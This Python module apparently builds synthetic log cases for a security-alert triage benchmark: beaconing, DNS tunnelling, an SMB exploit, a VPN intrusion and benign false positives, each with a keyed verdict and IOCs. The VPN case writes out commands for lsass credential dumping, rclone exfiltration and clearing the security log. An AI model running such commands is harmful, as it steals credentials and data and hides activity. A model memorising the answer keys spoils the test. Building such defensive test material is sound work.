# ruff: noqa: E501
"""Network cases: firewall key=value, Zeek as JSON and TSV, Suricata, VPN syslog, DNS query log."""

import base64
from datetime import datetime
from typing import Any

from casebook import Case, Log, iso


def fortinet(when: datetime, kind: str, **fields: str | int) -> str:
    """A line in a firewall's key=value format."""
    head = f'date={when:%Y-%m-%d} time={when:%H:%M:%S} eventtime={int(when.timestamp() * 1e9)} tz="+0000" logid="0000000013" type="{kind}" subtype="{"forward" if kind == "traffic" else "ips"}" level="{"notice" if kind == "traffic" else "alert"}" vd="root"'
    return head + "".join(
        f' {key}="{value}"' if isinstance(value, str) and not key.endswith(("ip", "port")) else f" {key}={value}"
        for key, value in fields.items()
    )


def beacon_and_upload() -> Case:
    """One machine calls an address every minute and at the end sends a lot."""
    case = Case("m16_fortinet_beacon_upload", "2025-01-22 10:00:00")
    log = case.log("fortigate.log")
    for _ in range(300):
        when = case.sometime(hours=4)
        log.add(
            when,
            fortinet(
                when,
                "traffic",
                srcip=f"10.18.3.{case.dice.randrange(20, 80)}",
                srcport=case.dice.randrange(40000, 60000),
                dstip=case.public(),
                dstport=case.dice.choice((443, 443, 80, 53)),
                proto=6,
                action=case.dice.choice(("close", "close", "client-rst")),
                policyid=12,
                service="HTTPS",
                sentbyte=case.dice.randrange(800, 20000),
                rcvdbyte=case.dice.randrange(2000, 900000),
                duration=case.dice.randrange(1, 120),
            ),
        )
    victim, server, second = "10.18.3.51", "198.51.100.83", "203.0.113.12"
    for number in range(110):
        when = case.after(hours=1, seconds=60 * number + case.dice.uniform(0, 2))
        log.add(
            when,
            fortinet(
                when,
                "traffic",
                srcip=victim,
                srcport=41000 + number,
                dstip=server,
                dstport=8443,
                proto=6,
                action="close",
                policyid=12,
                service="tcp/8443",
                sentbyte=742,
                rcvdbyte=388,
                duration=1,
            ),
            "beacon",
        )
    when = case.after(hours=1, minutes=3)
    log.add(
        when,
        fortinet(
            when,
            "utm",
            srcip=victim,
            srcport=41003,
            dstip=server,
            dstport=8443,
            action="detected",
            severity="high",
            attack="Generic.RAT.TLS.Handshake",
            attackid=51888,
            msg="backdoor: generic remote access handshake",
        ),
        "signature",
    )
    for number in range(6):
        when = case.after(hours=2, minutes=45 + 2 * number)
        log.add(
            when,
            fortinet(
                when,
                "traffic",
                srcip=victim,
                srcport=44000 + number,
                dstip=second,
                dstport=443,
                proto=6,
                action="close",
                policyid=12,
                service="HTTPS",
                sentbyte=188400000 + number * 911,
                rcvdbyte=90100,
                duration=110,
            ),
            "upload",
        )
    case.alert = {
        "logdesc": "IPS signature",
        "attack": "Generic.RAT.TLS.Handshake",
        "date": case.after(hours=1, minutes=3).strftime("%Y-%m-%d"),
        "time": case.after(hours=1, minutes=3).strftime("%H:%M:%S"),
        "srcip": victim,
        "dstip": server,
        "crlevel": "high",
    }
    return case.judge(
        "malicious",
        "high critical",
        "10.18.3.51 connects to one address every minute with equal sizes, matches a remote access signature, and sends more than a gigabyte to a second address.",
        steps={"beacon": "connections of equal size every minute", "upload": "very large uploads to another address"},
        optional={"signature": "a remote access signature"},
        techniques="T1571 T1048",
        more_techniques="T1071.001 T1041 T1573 T1573.002 T1071 T1219 T1567 T1029 T1030 T1048.002 T1095",
        iocs=(server, second),
        more_iocs=(victim, "Generic.RAT.TLS.Handshake"),
        not_iocs=("10.18.3.20",),
    )


ZEEK_DNS = (
    "#separator \\x09",
    "#set_separator\t,",
    "#empty_field\t(empty)",
    "#unset_field\t-",
    "#path\tdns",
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\tquery\tqtype_name\trcode_name\tanswers",
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tstring\tstring\tstring\tvector[string]",
)
ZEEK_CONN = (
    "#separator \\x09",
    "#set_separator\t,",
    "#empty_field\t(empty)",
    "#unset_field\t-",
    "#path\tconn",
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state",
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring",
)


def zeek_dns(
    case: Case, when: datetime, client: str, query: str, kind: str = "A", code: str = "NOERROR", answer: str = "-"
) -> str:
    """A line of Zeek's dns.log."""
    return "\t".join(
        (
            f"{when.timestamp():.6f}",
            f"C{case.hex(16)}",
            client,
            str(case.dice.randrange(1025, 65000)),
            "10.33.0.53",
            "53",
            "udp",
            str(case.dice.randrange(65000)),
            query,
            kind,
            code,
            answer,
        )
    )


def tunnel() -> Case:
    """Data leaves in the names of DNS queries."""
    case = Case("m17_zeek_tsv_dns_tunnel", "2025-08-13 19:00:00")
    dns, conn = case.log("dns.log", *ZEEK_DNS), case.log("conn.log", *ZEEK_CONN)
    names = (
        "www.fjell.example",
        "mail.corp.example",
        "ntp.pool.example",
        "cdn.vendor.example",
        "updates.vendor.example",
        "login.corp.example",
    )
    for _ in range(260):
        when = case.sometime(hours=3)
        client = f"10.33.4.{case.dice.randrange(10, 60)}"
        dns.add(
            when,
            zeek_dns(
                case, when, client, case.dice.choice(names), case.dice.choice(("A", "AAAA")), answer=case.public()
            ),
        )
        conn.add(
            when,
            "\t".join(
                (
                    f"{when.timestamp():.6f}",
                    f"C{case.hex(16)}",
                    client,
                    "50211",
                    case.public(),
                    "443",
                    "tcp",
                    "ssl",
                    f"{case.dice.uniform(0.2, 40):.3f}",
                    str(case.dice.randrange(500, 9000)),
                    str(case.dice.randrange(900, 400000)),
                    "SF",
                )
            ),
        )
    victim = "10.33.4.29"
    for number in range(170):
        when = case.after(minutes=70, seconds=3 * number)
        chunk = base64.b32encode(case.dice.randbytes(34)).decode().rstrip("=").lower()
        dns.add(
            when,
            zeek_dns(case, when, victim, f"{chunk}.{number:04x}.t.pebbleworks.example", "TXT", answer="TXT 4 b2sK"),
            "tunnel",
        )
    when = case.after(minutes=67)
    conn.add(
        when,
        "\t".join(
            (
                f"{when.timestamp():.6f}",
                f"C{case.hex(16)}",
                victim,
                "50990",
                "203.0.113.40",
                "8080",
                "tcp",
                "http",
                "2.114",
                "240",
                "512331",
                "SF",
            )
        ),
        "fetch",
    )
    when = case.after(minutes=69)
    dns.add(when, zeek_dns(case, when, victim, "ns1.pebbleworks.example", "A", answer="198.51.100.240"), "~nameserver")
    case.alert = {
        "sensor": "ndr-3",
        "title": "Unusually long DNS queries",
        "epoch": case.after(minutes=70).timestamp(),
        "observables": [{"kind": "domain", "value": "t.pebbleworks.example"}, {"kind": "ip", "value": victim}],
        "score": 81,
    }
    return case.judge(
        "malicious",
        "high critical medium",
        "10.33.4.29 fetches half a megabyte from an address on port 8080 and then sends long encoded names as text queries under one domain every three seconds.",
        steps={"tunnel": "encoded names under one domain, every three seconds, text records"},
        optional={"fetch": "a download just before"},
        techniques="T1071.004",
        more_techniques="T1048 T1048.003 T1572 T1132.001 T1132 T1041 T1105 T1030 T1071 T1029",
        iocs=("t.pebbleworks.example",),
        more_iocs=("pebbleworks.example", "ns1.pebbleworks.example", "198.51.100.240", "203.0.113.40", victim),
        not_iocs=("10.33.0.53", "mail.corp.example"),
    )


def nightly_upload() -> Case:
    """A file server sends much to the same backup provider every night."""
    case = Case("b14_zeek_json_nightly_upload", "2025-05-19 18:00:00")
    log = case.log("conn.ndjson")

    def connection(
        when: datetime, source: str, target: str, port: int, sent: int, received: int, duration: float, name: str = ""
    ) -> dict[str, Any]:
        return {
            "_path": "conn",
            "_write_ts": iso(when, 6),
            "ts": iso(when, 6),
            "uid": f"C{case.hex(16)}",
            "id.orig_h": source,
            "id.orig_p": case.dice.randrange(33000, 60000),
            "id.resp_h": target,
            "id.resp_p": port,
            "proto": "tcp",
            "service": "ssl",
            "duration": round(duration, 3),
            "orig_bytes": sent,
            "resp_bytes": received,
            "conn_state": "SF",
            "local_orig": True,
            **({"server_name": name} if name else {}),
        }

    for _ in range(280):
        when = case.sometime(days=5)
        log.add(
            when,
            connection(
                when,
                f"10.71.2.{case.dice.randrange(10, 70)}",
                case.public(),
                443,
                case.dice.randrange(500, 60000),
                case.dice.randrange(900, 900000),
                case.dice.uniform(0.1, 90),
            ),
        )
    provider = case.public()
    for night in range(5):
        for part in range(6):
            when = case.after(days=night, hours=5, minutes=10 + 9 * part)
            size = 2_100_000_000 + case.dice.randrange(90_000_000)
            log.add(
                when,
                connection(when, "10.71.0.12", provider, 443, size, 700_000, 510, "eu-2.coldharbour-backup.example"),
                "alerted" if night == 4 else "habit",
            )
    case.alert = {
        "model": "Unusual volume sent outside",
        "breach_time": iso(case.after(days=4, hours=5, minutes=10)),
        "device": {"ip": "10.71.0.12", "label": "file server"},
        "destination": provider,
        "bytes": 12_700_000_000,
        "score": "94%",
    }
    return case.judge(
        "benign",
        "informational low",
        "The file server sends six parts of two gigabytes to the same backup provider at eleven at night, every night.",
        steps={
            "alerted": "the alerted uploads",
            "habit": "the same size, hour and destination on the four nights before",
        },
        not_iocs=("10.71.0.12", provider, "eu-2.coldharbour-backup.example"),
    )


def eve(case: Case, when: datetime, kind: str, source: str, target: str, port: int, **more: Any) -> dict[str, Any]:
    """A Suricata event."""
    return {
        "timestamp": when.strftime("%Y-%m-%dT%H:%M:%S.%f+0000"),
        "flow_id": case.dice.getrandbits(50),
        "in_iface": "ens5",
        "event_type": kind,
        "src_ip": source,
        "src_port": case.dice.randrange(1025, 65000),
        "dest_ip": target,
        "dest_port": port,
        "proto": more.pop("proto", "TCP"),
        **more,
    }


def signature(number: int, text: str, category: str, severity: int) -> dict[str, Any]:
    """The alert part of a Suricata event."""
    return {
        "alert": {
            "action": "allowed",
            "gid": 1,
            "signature_id": number,
            "rev": 3,
            "signature": text,
            "category": category,
            "severity": severity,
        }
    }


def eve_background(case: Case, log: Log, events: int, hours: float, network: str) -> None:
    """Flows, TLS, HTTP and DNS of an office."""
    for _ in range(events):
        when, client = case.sometime(hours=hours), f"{network}.{case.dice.randrange(20, 90)}"
        kind = case.dice.choice(("flow", "tls", "dns", "http"))
        if kind == "dns":
            log.add(
                when,
                eve(
                    case,
                    when,
                    "dns",
                    client,
                    f"{network}.5",
                    53,
                    proto="UDP",
                    dns={
                        "type": "query",
                        "rrname": case.dice.choice(("corp.example", "mail.corp.example", "cdn.vendor.example")),
                        "rrtype": "A",
                    },
                ),
            )
        elif kind == "tls":
            log.add(
                when,
                eve(
                    case,
                    when,
                    "tls",
                    client,
                    case.public(),
                    443,
                    tls={"sni": case.dice.choice(("www.fjell.example", "drive.corp.example")), "version": "TLS 1.3"},
                ),
            )
        elif kind == "http":
            log.add(
                when,
                eve(
                    case,
                    when,
                    "http",
                    client,
                    f"{network}.7",
                    80,
                    http={"hostname": "intranet.corp.example", "url": "/", "http_method": "GET", "status": 200},
                ),
            )
        else:
            log.add(
                when,
                eve(
                    case,
                    when,
                    "flow",
                    client,
                    case.public(),
                    443,
                    flow={
                        "pkts_toserver": 12,
                        "pkts_toclient": 14,
                        "bytes_toserver": 2200,
                        "bytes_toclient": 41000,
                        "state": "closed",
                    },
                ),
            )


def smb_exploit() -> Case:
    """A guest's machine looks around and exploits a file server, which then fetches a program."""
    case = Case("m18_suricata_smb_exploit", "2025-04-29 14:00:00")
    log = case.log("eve.json")
    eve_background(case, log, 260, 4, "10.61.7")
    source, target, stage = "10.61.7.203", "10.61.7.12", "203.0.113.181"
    for last in range(1, 40):
        when = case.after(hours=1, seconds=last)
        log.add(
            when,
            eve(
                case,
                when,
                "flow",
                source,
                f"10.61.7.{last}",
                445,
                flow={
                    "pkts_toserver": 1,
                    "pkts_toclient": 0,
                    "bytes_toserver": 60,
                    "bytes_toclient": 0,
                    "state": "new",
                },
            ),
            "sweep",
        )
    for seconds, number, text, category, step in (
        (
            70,
            2024218,
            "EXPLOIT Possible SMBv1 echo response of a remote code execution attempt",
            "Attempted Administrator Privilege Gain",
            "exploit",
        ),
        (
            71,
            2024220,
            "EXPLOIT SMBv1 transaction with oversized buffer, remote code execution",
            "Attempted Administrator Privilege Gain",
            "exploit",
        ),
    ):
        when = case.after(hours=1, seconds=seconds)
        log.add(when, eve(case, when, "alert", source, target, 445, **signature(number, text, category, 1)), step)
    when = case.after(hours=1, seconds=80)
    log.add(
        when,
        eve(
            case,
            when,
            "http",
            target,
            stage,
            80,
            http={
                "hostname": stage,
                "url": "/svc64.exe",
                "http_method": "GET",
                "status": 200,
                "http_content_type": "application/x-dosexec",
                "length": 612352,
                "http_user_agent": "Microsoft-CryptoAPI/10.0",
            },
        ),
        "download",
    )
    log.add(
        case.after(hours=1, seconds=81),
        eve(
            case,
            case.after(hours=1, seconds=81),
            "fileinfo",
            stage,
            target,
            49811,
            fileinfo={"filename": "/svc64.exe", "magic": "PE32+ executable", "sha256": case.hex(64), "size": 612352},
        ),
        "download",
    )
    for number in range(20):
        when = case.after(hours=1, minutes=3 + 5 * number)
        log.add(
            when,
            eve(
                case,
                when,
                "tls",
                target,
                stage,
                443,
                tls={"subject": "CN=localhost", "issuerdn": "CN=localhost", "sni": "", "version": "TLS 1.2"},
            ),
            "c2",
        )
    case.alert = {
        "alert": {"signature": "EXPLOIT SMBv1 transaction with oversized buffer, remote code execution", "severity": 1},
        "src_ip": source,
        "dest_ip": target,
        "timestamp": case.after(hours=1, seconds=71).strftime("%Y-%m-%dT%H:%M:%S+0000"),
    }
    return case.judge(
        "malicious",
        "critical high",
        "10.61.7.203 sweeps port 445, exploits the file server 10.61.7.12; the server fetches a program from outside and keeps an encrypted channel with a self-signed certificate.",
        steps={
            "sweep": "port 445 on the whole network",
            "exploit": "remote code execution on the file server",
            "download": "the server fetches a program",
        },
        optional={"c2": "an encrypted channel every five minutes"},
        techniques="T1210 T1105",
        more_techniques="T1046 T1021.002 T1071.001 T1573 T1018 T1571 T1573.002 T1570 T1071",
        iocs=(source, stage),
        more_iocs=(target, "svc64.exe", f"http://{stage}/svc64.exe", "/svc64.exe"),
        not_iocs=("10.61.7.5", "10.61.7.7", "intranet.corp.example"),
    )


def resolver_false_positives() -> Case:
    """Signatures fire on the resolver, all day, because it asks for what others asked it."""
    case = Case("b15_suricata_resolver_signatures", "2025-07-16 06:00:00")
    log = case.log("eve.json")
    eve_background(case, log, 190, 9, "10.62.3")
    resolver, upstream = "10.62.3.5", case.public()
    texts = (
        (2027757, "DNS query for a .to domain"),
        (2023883, "DNS query to a .top domain, likely hostile"),
        (2014702, "DNS non-DNS or non-compliant traffic on port 53"),
        (2027863, "Observed DNS query for a .biz domain"),
    )
    for number in range(90):
        when = case.after(minutes=6 * number)
        sid, text = texts[number % 4]
        name = case.dice.choice(("zen.blocklist.example.to", "multi.surbl.example.top", "rep.mailfilter.example.biz"))
        client = {
            "type": "query",
            "rrname": f"{case.dice.randrange(255)}.{case.dice.randrange(255)}.{name}",
            "rrtype": "A",
        }
        log.add(when, eve(case, when, "dns", "10.62.3.25", resolver, 53, proto="UDP", dns=client), "filter")
        log.add(
            when,
            eve(
                case,
                when,
                "alert",
                resolver,
                upstream,
                53,
                proto="UDP",
                **signature(sid, text, "Potentially Bad Traffic", 2),
            ),
            "alerted" if number == 70 else "habit",
        )
    case.alert = {
        "rule": texts[2][1],
        "category": "A Network Trojan was detected",
        "prio": 1,
        "from": resolver,
        "to": upstream,
        "t": iso(case.after(minutes=420)),
    }
    return case.judge(
        "benign",
        "informational low",
        "The mail filter asks block lists through the resolver all day; each question makes one of four signatures fire on the resolver's own question to its upstream.",
        steps={
            "alerted": "the alerted signature on the resolver",
            "filter": "the mail filter's block list question just before",
            "habit": "the same every six minutes, all day",
        },
        not_iocs=(resolver, upstream, "10.62.3.25"),
    )


def asa(when: datetime, code: int, level: int, text: str, host: str = "vpn-gw1") -> str:
    """A line of a VPN gateway."""
    return f"{when:%b %d %Y %H:%M:%S} {host} : %ASA-{level}-{code}: {text}"


def vpn_background(case: Case, log: Log, people: list[str], events: int, hours: float) -> dict[str, str]:
    """People connecting from home; returns their usual addresses."""
    homes = {person: case.public() for person in people}
    for _ in range(events):
        when, person = case.sometime(hours=hours), case.dice.choice(people)
        home = homes[person]
        kind = case.dice.random()
        if kind < 0.4:
            log.add(
                when,
                asa(when, 113039, 6, f"Group <STAFF> User <{person}> IP <{home}> AnyConnect parent session started."),
            )
        elif kind < 0.7:
            log.add(
                when,
                asa(
                    when,
                    722051,
                    4,
                    f"Group <STAFF> User <{person}> IP <{home}> IPv4 Address <10.99.0.{20 + people.index(person)}> IPv6 address <::> assigned to session",
                ),
            )
        elif kind < 0.8:
            log.add(
                when,
                asa(
                    when,
                    113015,
                    6,
                    f"AAA user authentication Rejected : reason = AAA failure : server = 10.99.1.4 : user = {person} : user IP = {home}",
                ),
            )
        else:
            log.add(
                when,
                asa(
                    when,
                    113019,
                    4,
                    f"Group = STAFF, Username = {person}, IP = {home}, Session disconnected. Session Type: SSL, Duration: 1h:0{case.dice.randrange(10)}m:11s, Bytes xmt: 81220, Bytes rcv: 99121, Reason: User Requested",
                ),
            )
    return homes


def vpn_intruder() -> Case:
    """A VPN account is used from a hosting network; the endpoint product's list tells the rest."""
    case = Case("m19_vpn_syslog_edr_csv_intruder", "2025-09-26 21:00:00")
    vpn = case.log("vpn.log")
    edr = case.log(
        "detections.csv", "detected_at;hostname;user;severity;tactic;file_name;command_line;parent;remote_ip;action"
    )
    people = ["hkoch", "ibrandt", "jlund", "kmoen", "lnilsen"]
    vpn_background(case, vpn, people, 230, 6)
    attacker, inside = "203.0.113.171", "10.99.0.77"
    for number in range(14):
        when = case.after(hours=2, seconds=20 * number)
        vpn.add(
            when,
            asa(
                when,
                113015,
                6,
                f"AAA user authentication Rejected : reason = AAA failure : server = 10.99.1.4 : user = {case.dice.choice(('svc-backup', 'contractor1', 'kmoen', 'test'))} : user IP = {attacker}",
            ),
            "guessing",
        )
    for minutes, code, level, text in (
        (
            6,
            113012,
            6,
            f"AAA user authentication Successful : local database : user = contractor1 : user IP = {attacker}",
        ),
        (6.1, 113039, 6, f"Group <LEGACY-NOMFA> User <contractor1> IP <{attacker}> AnyConnect parent session started."),
        (
            6.2,
            722051,
            4,
            f"Group <LEGACY-NOMFA> User <contractor1> IP <{attacker}> IPv4 Address <{inside}> IPv6 address <::> assigned to session",
        ),
    ):
        when = case.after(hours=2, minutes=minutes)
        vpn.add(when, asa(when, code, level, text), "login")
    for _ in range(60):
        when = case.sometime(hours=6)
        edr.add(
            when,
            f"{when:%Y-%m-%d %H:%M:%S};WS-{case.dice.randrange(100, 140)};{case.dice.choice(people)};informational;;{case.dice.choice(('zoom.exe', 'teams.exe', 'setup_printer.exe'))};;explorer.exe;;allowed",
        )
    rows = (
        (
            15,
            "FS-02",
            "contractor1",
            "medium",
            "Lateral Movement",
            "mstsc",
            "logon type 10",
            "winlogon.exe",
            inside,
            "allowed",
            "rdp",
        ),
        (
            19,
            "FS-02",
            "contractor1",
            "high",
            "Discovery",
            "adf.exe",
            "adf.exe -f objectcategory=computer",
            "cmd.exe",
            "",
            "allowed",
            "discovery",
        ),
        (
            24,
            "FS-02",
            "contractor1",
            "critical",
            "Credential Access",
            "procdump64.exe",
            "procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\o.dmp",
            "cmd.exe",
            "",
            "allowed",
            "credentials",
        ),
        (
            31,
            "FS-02",
            "contractor1",
            "high",
            "Exfiltration",
            "rclone.exe",
            "rclone.exe copy D:\\Projects mega:p --transfers 8",
            "cmd.exe",
            "198.51.100.201",
            "allowed",
            "exfiltration",
        ),
        (
            40,
            "FS-02",
            "contractor1",
            "high",
            "Defense Evasion",
            "wevtutil.exe",
            "wevtutil cl Security",
            "cmd.exe",
            "",
            "allowed",
            "clearing",
        ),
    )
    for minutes, *columns, step in rows:
        when = case.after(hours=2, minutes=minutes)
        edr.add(when, ";".join((f"{when:%Y-%m-%d %H:%M:%S}", *(str(column) for column in columns))), step)
    case.alert = {
        "Detection": "Credential dumping tool",
        "Hostname": "FS-02",
        "UserName": "contractor1",
        "SeverityName": "Critical",
        "ContextTimeStamp": int(case.after(hours=2, minutes=24).timestamp()),
    }
    return case.judge(
        "malicious",
        "critical high",
        "An outside address guesses VPN names until contractor1, in a group without second factor, is accepted; from the VPN address it opens a remote desktop on FS-02, lists computers, dumps credentials, copies projects outside and clears the log.",
        steps={
            "login": "the VPN account from the guessing address",
            "credentials": "the credential process is dumped",
            "exfiltration": "files are copied to a file sharing service",
            "clearing": "the security log is cleared",
        },
        optional={
            "guessing": "rejected names from the same address",
            "rdp": "remote desktop from the VPN address",
            "discovery": "computers are listed",
        },
        techniques="T1133 T1003.001 T1567.002 T1070.001",
        more_techniques="T1110 T1110.001 T1110.003 T1078 T1021.001 T1018 T1087.002 T1567 T1048 T1003 T1070 T1078.001 T1005 T1078.002 T1078.003",
        iocs=(attacker, "198.51.100.201"),
        more_iocs=("contractor1", inside, "procdump64.exe", "rclone.exe", "adf.exe", "C:\\ProgramData\\o.dmp"),
        not_iocs=("10.99.1.4", "hkoch", "FS-02"),
    )


def company_egress() -> Case:
    """Impossible travel that is the company's own security gateway in another country."""
    case = Case("b16_vpn_leef_travel_egress", "2025-11-19 05:00:00")
    log = case.log("gateway.leef")
    people = [f"p{number:03d}" for number in range(401, 425)]
    egress = case.public()

    def leef(when: datetime, event: str, user: str, address: str, **fields: str) -> str:
        return f"LEEF:2.0|Breakwater|Access Gateway|5.2|{event}|^|" + "^".join(
            (
                f"devTime={when:%b %d %Y %H:%M:%S}",
                f"usrName={user}",
                f"src={address}",
                *(f"{key}={value}" for key, value in fields.items()),
            )
        )

    homes = {person: case.public() for person in people}
    for _ in range(220):
        when, person = case.sometime(hours=9), case.dice.choice(people)
        log.add(
            when,
            leef(
                when,
                case.dice.choice(("session-start", "resource-access", "session-end")),
                person,
                homes[person],
                country="NO",
                device=f"PC-{person}",
                posture="compliant",
            ),
        )
    for position, person in enumerate(people):
        when = case.after(hours=4, minutes=6 * position)
        step = "alerted" if position == 12 else "others"
        log.add(
            when,
            leef(
                when,
                "session-start",
                person,
                egress,
                country="DE",
                device=f"PC-{person}",
                posture="compliant",
                egress="corporate-gateway-frankfurt",
                factor="hardware-key",
            ),
            step,
        )
        log.add(
            case.after(hours=4, minutes=6 * position + 1),
            leef(
                case.after(hours=4, minutes=6 * position + 1),
                "resource-access",
                person,
                egress,
                country="DE",
                device=f"PC-{person}",
                posture="compliant",
                resource="crm",
            ),
            "~use",
        )
    case.alert = {
        "title": "Impossible travel",
        "riskLevel": "high",
        "user": {"id": people[12]},
        "locations": [{"ip": homes[people[12]], "country": "NO"}, {"ip": egress, "country": "DE"}],
        "detectedDateTime": iso(case.after(hours=5, minutes=12)),
        "minutesBetween": 9,
    }
    return case.judge(
        "benign",
        "informational low",
        "The second country is the company's own gateway in Frankfurt: 24 people come from the same address that day, each with a known compliant device and a hardware key.",
        steps={
            "alerted": "the alerted session names the company's gateway, device and hardware key",
            "others": "23 other people come from the same address",
        },
        not_iocs=(egress, people[12], homes[people[12]]),
    )


def absent_domain() -> Case:
    """The alert is about a name that nobody asks for in the lines given."""
    case = Case("x04_dns_query_log_absent_domain", "2025-03-07 07:00:00")
    log = case.log("queries.log")
    for _ in range(260):
        when = case.sometime(hours=2)
        name = case.dice.choice(
            ("www.fjell.example", "mail.corp.example", "time.example", "api.vendor.example", "_ldap._tcp.corp.example")
        )
        client = f"10.47.1.{case.dice.randrange(10, 70)}"
        log.add(
            when,
            f"{when:%d-%b-%Y %H:%M:%S}.{when.microsecond // 1000:03d} queries: info: client @0x7f{case.hex(10)} {client}#{case.dice.randrange(1025, 65000)} ({name}): query: {name} IN {case.dice.choice(('A', 'AAAA', 'SRV'))} +E(0)K (10.47.0.53)",
        )
    case.alert = {
        "indicator": "cdn-metrics.ashgrove.example",
        "list": "command and control domains",
        "client": "10.47.1.212",
        "threat_level": "high",
    }
    return case.judge(
        "insufficient_evidence",
        "informational low medium",
        "Neither the name nor the client occurs in the two hours of queries given, and the alert has no time.",
        steps={},
        not_iocs=("10.47.0.53", "10.47.1.212"),
    )


CASES = (
    beacon_and_upload,
    tunnel,
    nightly_upload,
    smb_exploit,
    resolver_false_positives,
    vpn_intruder,
    company_egress,
    absent_domain,
)
